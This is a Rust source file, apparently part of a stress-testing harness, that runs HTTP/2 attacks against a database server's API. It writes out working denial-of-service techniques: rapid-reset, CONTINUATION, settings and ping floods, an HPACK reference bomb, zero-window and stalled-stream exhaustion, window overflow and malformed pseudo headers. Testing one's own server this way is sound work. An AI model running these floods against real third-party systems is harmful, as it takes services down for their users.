//! HTTP/2: floods, long blocks of headers, wrong pseudo headers, games with windows.

use std::io;
use std::time::{Duration, Instant};

use fastrand::Rng;

use super::Attack;
use crate::attack::case::{Case, run_cases};
use crate::attack::http2::{
    FRAME_MAX_BYTES, Http2, INITIAL_WINDOW_SIZE, added, block, flag, frame, kind, setting,
};
use crate::attack::target::{COLLECTION, Target};

/// Time of a flood, and time for which stalled streams are held.
const FLOOD: Duration = Duration::from_secs(3);

/// Maximum wait for a read or write.
const TIMEOUT: Duration = Duration::from_secs(5);

/// Connections of a flood.
const CONNECTIONS: usize = 10;

/// Connections that stall.
const STALLED: usize = 50;

/// Streams of each of them, and bytes of each stream. The bytes of a stranger go to the login.
const STREAMS: (u32, usize) = (128, 256 << 10);

/// A reference to the newest entry of HPACK's dynamic table.
const NEWEST_ENTRY: u8 = 0x80 | 62;

/// The largest window.
const WINDOW_MAX: u32 = (1 << 31) - 1;

/// See the module.
pub(crate) struct Http2Attack;

impl Attack for Http2Attack {
    fn name(&self) -> &'static str {
        "http2"
    }

    fn summary(&self) -> &'static str {
        "floods of resets, continuations and settings, long headers, windows that stay closed"
    }

    fn run(&self, target: &Target, rng: &mut Rng) -> Result<(), String> {
        let mut cases = Vec::new();
        for (name, frames) in floods(target) {
            cases.push(Case::new(name, move |target, _| {
                flood(target, &*frames);
                Ok(())
            }));
        }
        for (name, headers) in wrong_heads() {
            cases.push(Case::new(name, move |target, _| is_answered(target, &block(&headers))));
        }
        cases.push(Case::new("a block of 1 MB", |target, _| long_block(target)));
        cases.push(Case::new("a bomb of references", |target, _| bomb(target)));
        cases.push(Case::new("windows that stay shut", |target, _| {
            shut_windows(target);
            Ok(())
        }));
        cases.push(Case::new("windows that overflow", |target, _| overflow(target)));
        for is_known in [false, true] {
            cases.push(Case::new(format!("stalled streams, known: {is_known}"), move |target, _| {
                stall(target, is_known);
                Ok(())
            }));
        }
        cases.push(Case::new("random frames", |target, rng| {
            random_frames(target, rng);
            Ok(())
        }));
        run_cases(target, rng, cases)
    }
}

/// Makes the frames that are sent together, given the first number of a free stream.
type Frames = Box<dyn Fn(u32) -> Vec<u8> + Sync>;

/// Stream numbers of one call of [`Frames`].
const NUMBERS_AT_ONCE: u32 = 200;

/// Numbers of the streams of a client, which are odd.
fn numbers(first: u32) -> impl Iterator<Item = u32> {
    (first..first + NUMBERS_AT_ONCE).step_by(2)
}

fn floods(target: &Target) -> Vec<(&'static str, Frames)> {
    let head = block(&request(target, "GET", "/_api/collection"));
    let resets = move |first| {
        let pair = |stream| {
            let headers = frame(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, stream, &head);
            [headers, frame(kind::RST_STREAM, flag::NONE, stream, &[0, 0, 0, 8])].concat()
        };
        numbers(first).flat_map(pair).collect()
    };
    let query = block(&request(target, "POST", "/_api/cursor"));
    let slow_resets = move |first| {
        let three = |stream| {
            let headers = frame(kind::HEADERS, flag::END_HEADERS, stream, &query);
            let body = b"{\"query\":\"FOR i IN 1..1000000 SORT -i RETURN i\"}";
            let data = frame(kind::DATA, flag::END_STREAM, stream, body);
            [headers, data, frame(kind::RST_STREAM, flag::NONE, stream, &[0, 0, 0, 8])].concat()
        };
        numbers(first).flat_map(three).collect()
    };
    let continuations = |first| {
        let begin = frame(kind::HEADERS, flag::NONE, first, &[]);
        let rest = block(&[("a", &"b".repeat(16_000))]);
        [begin, frame(kind::CONTINUATION, flag::NONE, first, &rest).repeat(100)].concat()
    };
    let empty = |first| {
        let begin = frame(kind::HEADERS, flag::NONE, first, &[]);
        [begin, frame(kind::CONTINUATION, flag::NONE, first, &[]).repeat(10_000)].concat()
    };
    let open = block(&[(":method", "POST"), (":scheme", "http"), (":path", "/_open/auth")]);
    let empty_data = move |first| {
        let headers = frame(kind::HEADERS, flag::END_HEADERS, first, &open);
        let padded = frame(kind::DATA, flag::PADDED, first, &[255; 256]);
        [headers, frame(kind::DATA, flag::NONE, first, &[]).repeat(5_000), padded].concat()
    };
    vec![
        ("a flood of resets", Box::new(resets)),
        ("a flood of queries that are reset", Box::new(slow_resets)),
        ("a flood of continuations", Box::new(continuations)),
        ("a flood of empty continuations", Box::new(empty)),
        ("a flood of empty data", Box::new(empty_data)),
        ("a flood of settings", Box::new(|_| frame(kind::SETTINGS, 0, 0, &setting(3, 9)).repeat(1_000))),
        ("a flood of pings", Box::new(|_| frame(kind::PING, 0, 0, &[1; 8]).repeat(1_000))),
        (
            "a flood of priorities",
            Box::new(|first| {
                numbers(first).flat_map(|stream| frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 9])).collect()
            }),
        ),
        ("a flood of unknown frames", Box::new(|_| frame(200, 0, 0, &[0; 1_000]).repeat(100))),
    ]
}

fn request<'a>(target: &'a Target, method: &'a str, path: &'a str) -> Vec<(&'static str, &'a str)> {
    let mut headers = vec![(":method", method), (":scheme", "http"), (":path", path)];
    headers.extend([(":authority", "attack"), ("authorization", target.authorization())]);
    headers
}

/// Sends frames on many connections, without reading.
fn flood(target: &Target, frames: &(dyn Fn(u32) -> Vec<u8> + Sync)) {
    let start = Instant::now();
    let one = || {
        let mut connection = Http2::open(target.address(), TIMEOUT, &[])?;
        for first in (1..).step_by(NUMBERS_AT_ONCE as usize) {
            if start.elapsed() >= FLOOD {
                return Ok(());
            }
            target.count(u64::from(NUMBERS_AT_ONCE / 2));
            connection.write(&frames(first))?;
        }
        io::Result::Ok(())
    };
    std::thread::scope(|scope| {
        for _ in 0..CONNECTIONS {
            scope.spawn(|| {
                while start.elapsed() < FLOOD {
                    // Errors: the server has ended the connection.
                    let _ = one();
                    // The machine has other work besides the connections of the flood.
                    std::thread::sleep(Duration::from_millis(1));
                }
            });
        }
    });
}

/// Heads that are wrong by RFC 9113, section 8.3.
fn wrong_heads() -> Vec<(&'static str, Vec<(&'static str, &'static str)>)> {
    const METHOD: (&str, &str) = (":method", "GET");
    const SCHEME: (&str, &str) = (":scheme", "http");
    const PATH: (&str, &str) = (":path", "/_api/version");
    vec![
        ("no pseudo headers", vec![]),
        ("no path", vec![METHOD, SCHEME]),
        ("an empty path", vec![METHOD, SCHEME, (":path", "")]),
        ("a path that is none", vec![METHOD, SCHEME, (":path", "no path")]),
        ("two methods", vec![METHOD, METHOD, SCHEME, PATH]),
        ("two paths", vec![METHOD, SCHEME, PATH, (":path", "/_admin/status")]),
        ("a pseudo header behind others", vec![METHOD, SCHEME, ("a", "b"), PATH]),
        ("an unknown pseudo header", vec![METHOD, SCHEME, PATH, (":secret", "x")]),
        ("a pseudo header of replies", vec![METHOD, SCHEME, PATH, (":status", "200")]),
        ("upper case", vec![METHOD, SCHEME, PATH, ("Accept", "x")]),
        ("a line break in a value", vec![METHOD, SCHEME, PATH, ("a", "b\r\nc: d")]),
        ("a header of connections", vec![METHOD, SCHEME, PATH, ("transfer-encoding", "chunked")]),
        ("a wrong length", vec![METHOD, SCHEME, PATH, ("content-length", "18446744073709551616")]),
        ("a length without a body", vec![METHOD, SCHEME, PATH, ("content-length", "5")]),
        ("CONNECT", vec![(":method", "CONNECT"), (":authority", "x")]),
        ("an empty name", vec![METHOD, SCHEME, PATH, ("", "x")]),
    ]
}

/// Sends a block as a whole request. Errors: there is no answer of any kind.
fn is_answered(target: &Target, block: &[u8]) -> Result<(), String> {
    target.count(1);
    let mut connection = Http2::open(target.address(), TIMEOUT, &[]).map_err(|error| error.to_string())?;
    let (first, rest) = block.split_at(block.len().min(FRAME_MAX_BYTES));
    let mut frames: Vec<(u8, u8, &[u8])> = vec![(kind::HEADERS, flag::END_STREAM, first)];
    frames.extend(rest.chunks(FRAME_MAX_BYTES).map(|part| (kind::CONTINUATION, flag::NONE, part)));
    if let Some((_, flags, _)) = frames.last_mut() {
        *flags |= flag::END_HEADERS;
    }
    for (kind, flags, payload) in frames {
        // Errors: the server has ended the connection.
        let _ = connection.send(kind, flags, 1, payload);
    }
    let _ = connection.send(kind::PING, flag::NONE, 0, &[0; 8]);
    match connection.receive_answer() {
        Err(error) if matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => {
            Err(format!("no answer within {TIMEOUT:?}"))
        }
        _ => Ok(()),
    }
}

fn long_block(target: &Target) -> Result<(), String> {
    let value = "v".repeat(1_000);
    let mut headers = request(target, "GET", "/_api/version");
    headers.extend((0..1_000).map(|_| ("x-long", value.as_str())));
    is_answered(target, &block(&headers))
}

/// Names an entry of 4 kB thousands of times in one block: 16 kB that stand for 60 MB.
fn bomb(target: &Target) -> Result<(), String> {
    let mut bytes = block(&request(target, "GET", "/_api/version"));
    bytes.extend(added("x-bomb", &"b".repeat(4_000)));
    bytes.extend(vec![NEWEST_ENTRY; FRAME_MAX_BYTES - bytes.len()]);
    (0..50).try_for_each(|_| is_answered(target, &bytes))
}

/// Asks for long replies and never opens the windows.
fn shut_windows(target: &Target) {
    let head = block(&request(target, "POST", "/_api/cursor"));
    let body = b"{\"query\":\"FOR i IN 1..50000 RETURN {i, t: REPEAT('a', 500)}\",\"batchSize\":1000000}";
    let open = || {
        let settings = setting(INITIAL_WINDOW_SIZE, 0);
        let mut connection = Http2::open(target.address(), TIMEOUT, &settings)?;
        for stream in (1..200).step_by(2) {
            target.count(1);
            connection.send(kind::HEADERS, flag::END_HEADERS, stream, &head)?;
            connection.send(kind::DATA, flag::END_STREAM, stream, body)?;
        }
        io::Result::Ok(connection)
    };
    // Errors: the server has ended the connection.
    let held: Vec<Http2> = (0..5).filter_map(|_| open().ok()).collect();
    // The windows stay shut for this time.
    std::thread::sleep(FLOOD * 2);
    drop(held);
}

fn overflow(target: &Target) -> Result<(), String> {
    let head = block(&request(target, "GET", "/_api/version"));
    for stream in [0, 1] {
        for increment in [0, WINDOW_MAX, u32::MAX] {
            let mut connection =
                Http2::open(target.address(), TIMEOUT, &[]).map_err(|error| error.to_string())?;
            let update = frame(kind::WINDOW_UPDATE, flag::NONE, stream, &increment.to_be_bytes());
            let headers = frame(kind::HEADERS, flag::END_HEADERS, 1, &head);
            let ping = frame(kind::PING, flag::NONE, 0, &[0; 8]);
            // Errors: the server has ended the connection.
            let _ = connection.write(&[headers, update.repeat(3), ping].concat());
            // The same: an end is an answer.
            let _ = connection.receive_answer();
        }
    }
    Ok(())
}

/// Sends the beginnings of many bodies and holds them.
fn stall(target: &Target, is_known: bool) {
    let path = format!("/_api/document/{COLLECTION}");
    let head = if is_known {
        block(&request(target, "POST", &path))
    } else {
        block(&[(":method", "POST"), (":scheme", "http"), (":path", "/_open/auth")])
    };
    let open = || {
        let mut connection = Http2::open(target.address(), Duration::from_millis(200), &[])?;
        let piece = vec![b'a'; FRAME_MAX_BYTES];
        let streams = (1..).step_by(2).take(STREAMS.0 as usize);
        for stream in streams.clone() {
            target.count(1);
            connection.send(kind::HEADERS, flag::END_HEADERS, stream, &head)?;
        }
        for _ in 0..STREAMS.1 / piece.len() {
            for stream in streams.clone() {
                // Errors: the server reads no more, or a window is shut. It may have read much.
                if connection.send(kind::DATA, flag::NONE, stream, &piece).is_err() {
                    return Ok(connection);
                }
            }
        }
        io::Result::Ok(connection)
    };
    let held: Vec<Http2> = (0..STALLED).filter_map(|_| open().ok()).collect();
    // The streams stall for this time.
    std::thread::sleep(FLOOD);
    drop(held);
}

fn random_frames(target: &Target, rng: &mut Rng) {
    let kinds = [kind::PUSH_PROMISE, kind::GOAWAY, kind::SETTINGS, kind::HEADERS, kind::CONTINUATION];
    let start = Instant::now();
    while start.elapsed() < FLOOD {
        target.count(1);
        let Ok(mut connection) = Http2::open(target.address(), TIMEOUT, &[]) else { continue };
        for _ in 0..rng.usize(1..50) {
            let payload: Vec<u8> = (0..rng.usize(0..64)).map(|_| rng.u8(..)).collect();
            let kind = if rng.bool() { rng.u8(0..12) } else { kinds[rng.usize(..kinds.len())] };
            // Errors: the server has ended the connection.
            if connection.send(kind, rng.u8(..), rng.u32(0..8), &payload).is_err() {
                break;
            }
        }
    }
}
